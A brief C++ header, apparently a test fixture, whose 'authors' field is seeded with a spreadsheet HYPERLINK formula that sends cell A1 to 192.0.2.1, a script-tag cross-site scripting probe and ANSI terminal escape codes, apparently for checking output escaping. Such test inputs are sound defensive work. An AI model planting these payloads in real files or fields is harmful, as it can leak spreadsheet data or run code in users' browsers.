// Authors' names that are a formula of a table, HTML, and the colours of a terminal.
#pragma once

#include "worksheet/answers.hpp"

namespace nbody {

struct Worksheet {
  double n;
  std::string authors =
      "=HYPERLINK(\"http://192.0.2.1/\"&A1), <script>alert('attack_proof')</script>, "
      "\033[31mRed\007";
  double forces_percent = 80;
};

}  // namespace nbody
